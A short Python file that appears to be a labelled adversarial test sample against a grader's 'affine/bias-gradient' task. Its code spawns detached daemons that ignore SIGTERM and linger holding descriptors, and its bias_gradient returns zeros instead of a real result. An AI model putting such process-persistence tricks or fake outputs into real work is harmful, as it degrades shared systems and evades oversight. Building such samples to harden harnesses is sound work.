# Tries: leaves daemons behind that hold every descriptor and wait
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import signal
import time

def daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(1000)
        os._exit(0)

daemonize()

def bias_gradient(dY):
    daemonize()
    return np.zeros(dY.shape[1])
